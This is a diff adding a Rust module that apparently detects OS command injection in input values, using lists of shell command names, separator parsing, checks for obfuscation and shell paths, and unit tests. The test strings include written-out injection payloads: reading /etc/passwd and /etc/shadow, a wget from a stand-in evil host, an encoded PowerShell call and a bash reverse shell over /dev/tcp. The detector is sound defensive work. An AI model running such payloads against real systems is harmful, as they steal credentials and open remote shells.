@@ -1,0 +1,251 @@
+//! OS command injection: a shell separator or substitution followed by a command.
+//!
+//! A separator (`;`, `|`, `||`, `&`, `&&`, a newline, `` ` ``, `$(`) only matters when a
+//! command comes after it. Commands that mean nothing else (`whoami`, `wget`, `bash`...) are
+//! enough on their own; common words that are also commands (`cat`, `ping`, `sleep`...)
+//! need an argument that looks like one (`-x`, a path, a number, a redirection). Shell
+//! obfuscation (`${IFS}`) and shell paths count too. One pass over the value: linear.
+
+use crate::sql::Hit;
+
+/// Commands that are seldom anything else.
+const STRONG: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "systeminfo",
+    "tasklist",
+    "netstat",
+    "nslookup",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "certutil",
+    "bitsadmin",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "busybox",
+    "telnet",
+    "xterm",
+    "msiexec",
+    "wmic",
+    "reg",
+    "rundll32",
+    "regsvr32",
+    "id",
+    "passwd",
+    "crontab",
+    "useradd",
+    "net",
+    "sudo",
+    "su",
+    "chmod",
+    "chown",
+    "nohup",
+    "mkfifo",
+    "socat",
+    "openssl",
+    "base64",
+    "xxd",
+    "awk",
+    "sed",
+];
+
+/// Commands that are also common words: they need an argument that looks like one.
+const WEAK: &[&str] = &[
+    "cat", "ls", "dir", "echo", "sleep", "ping", "rm", "cp", "mv", "type", "env", "ps", "kill",
+    "touch", "find", "head", "tail", "more", "less", "whoami", "printenv", "pwd", "set", "timeout",
+    "dig", "host", "which", "where", "uptime", "hostname", "ver", "del", "copy", "move", "start",
+    "call", "exit", "eval", "exec", "export", "wait",
+];
+
+fn is_separator_start(bytes: &[u8], i: usize) -> Option<usize> {
+    match bytes[i] {
+        b';' | b'\n' | b'\r' | b'`' => Some(i + 1),
+        b'|' | b'&' => {
+            let mut j = i + 1;
+            if bytes.get(j) == Some(&bytes[i]) {
+                j += 1;
+            }
+            Some(j)
+        }
+        b'$' if bytes.get(i + 1) == Some(&b'(') => Some(i + 2),
+        _ => None,
+    }
+}
+
+/// The command word after a separator, and where it ends.
+fn command_after(lower: &str, from: usize) -> Option<(&str, usize)> {
+    let bytes = lower.as_bytes();
+    let mut i = from;
+    // Blanks, quotes and braces an attacker puts between separator and command.
+    while i < bytes.len() && matches!(bytes[i], b' ' | b'\t' | b'\'' | b'"' | b'{' | b'(' | b'\\') {
+        i += 1;
+    }
+    // A path before the command: `/bin/cat`, `/usr/bin/id`, `c:\windows\system32\cmd`.
+    let word_start = i;
+    let mut j = i;
+    while j < bytes.len()
+        && (bytes[j].is_ascii_alphanumeric()
+            || matches!(bytes[j], b'/' | b'\\' | b'.' | b'_' | b':' | b'-'))
+    {
+        j += 1;
+    }
+    let token = &lower[word_start..j];
+    let name = token.rsplit(['/', '\\']).next().unwrap_or(token);
+    let name = name.strip_suffix(".exe").unwrap_or(name);
+    (!name.is_empty()).then_some((name, j))
+}
+
+/// Whether what follows a weak command looks like its argument (or nothing).
+fn argument_follows(bytes: &[u8], end: usize) -> bool {
+    match bytes.get(end) {
+        None => true,
+        Some(b';' | b'|' | b'&' | b'>' | b'<' | b'`' | b')' | b'\'' | b'"' | b'$' | b'\n') => true,
+        Some(b' ' | b'\t' | b'+') => {
+            let k = bytes[end..]
+                .iter()
+                .position(|b| !matches!(b, b' ' | b'\t' | b'+'))
+                .map_or(bytes.len(), |p| end + p);
+            match bytes.get(k) {
+                None => true,
+                // A drive: `dir c:\`.
+                Some(b) if b.is_ascii_alphabetic() => bytes.get(k + 1) == Some(&b':'),
+                Some(b) => matches!(
+                    b,
+                    b'-' | b'/'
+                        | b'.'
+                        | b'$'
+                        | b'~'
+                        | b'%'
+                        | b'\\'
+                        | b'"'
+                        | b'\''
+                        | b'>'
+                        | b'<'
+                        | b'|'
+                        | b';'
+                        | b'0'..=b'9'
+                ),
+            }
+        }
+        _ => false,
+    }
+}
+
+/// The command-injection rules `value` matches, each once with its score.
+pub fn inspect(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let bytes = lower.as_bytes();
+    let mut hits: Vec<Hit> = Vec::new();
+    let mut hit = |rule: &'static str, score: u32| {
+        if !hits.iter().any(|h| h.rule == rule) {
+            hits.push(Hit { rule, score });
+        }
+    };
+    for i in 0..bytes.len() {
+        let Some(after) = is_separator_start(bytes, i) else {
+            continue;
+        };
+        let Some((name, end)) = command_after(&lower, after) else {
+            continue;
+        };
+        if STRONG.contains(&name) || (WEAK.contains(&name) && argument_follows(bytes, end)) {
+            let rule = if matches!(bytes[i], b'`' | b'$') {
+                "cmd.substitution"
+            } else {
+                "cmd.separator_command"
+            };
+            hit(rule, 5);
+        }
+    }
+    if lower.contains("${ifs}") || lower.contains("$ifs$") {
+        hit("cmd.shell_obfuscation", 4);
+    }
+    for shell in [
+        "/bin/sh",
+        "/bin/bash",
+        "/bin/zsh",
+        "cmd.exe",
+        "powershell.exe",
+        "/dev/tcp/",
+    ] {
+        if lower.contains(shell) {
+            hit("cmd.shell_path", 4);
+        }
+    }
+    hits
+}
+
+pub fn score(value: &str) -> u32 {
+    inspect(value).iter().map(|h| h.score).sum()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn commands_after_separators_score_high() {
+        for attack in [
+            "; cat /etc/passwd",
+            "| id",
+            "&& whoami",
+            "x || ping -c 10 127.0.0.1",
+            "`id`",
+            "$(whoami)",
+            "a;/bin/cat /etc/shadow",
+            "127.0.0.1; sleep 5",
+            "foo\nwget http://evil.example/x",
+            "& dir c:\\",
+            "| powershell -enc AAAA",
+            ";cat${IFS}/etc/passwd",
+            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "| C:\\Windows\\System32\\cmd.exe /c ver",
+            "';ls -la;'",
+        ] {
+            assert!(score(attack) >= 5, "{attack:?}: {:?}", inspect(attack));
+        }
+    }
+
+    #[test]
+    fn ordinary_text_scores_low() {
+        for text in [
+            "Tom & Jerry",
+            "fish & chips; salt & pepper",
+            "cats | dogs",
+            "I have a cat; she sleeps a lot",
+            "rock & roll; type of music",
+            "R&D and Q&A",
+            "price: $(10) maybe",
+            "see `code` in the docs",
+            "a || b",
+            "Meet me at 5; ping me before",
+            "sed is a stream editor",
+        ] {
+            assert!(score(text) < 5, "{text:?}: {:?}", inspect(text));
+        }
+    }
+
+    #[test]
+    fn time_is_linear_in_the_input() {
+        for unit in [";", "; ", "|/", "$(", "`a"] {
+            let _ = inspect(&unit.repeat(100_000));
+        }
+    }
+}
